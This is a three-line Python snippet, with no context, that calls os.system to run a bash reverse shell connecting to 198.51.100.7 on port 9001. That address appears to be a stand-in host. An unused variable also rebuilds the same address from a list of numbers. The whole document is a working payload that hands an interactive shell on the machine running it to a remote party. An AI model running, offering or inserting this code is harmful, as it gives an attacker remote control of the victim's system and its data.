import os
ip = ".".join(map(str, [198, 51, 100, 7]))
os.system("bash -c 'bash -i >& /dev/tcp/198.51.100.7/9001 0>&1'")
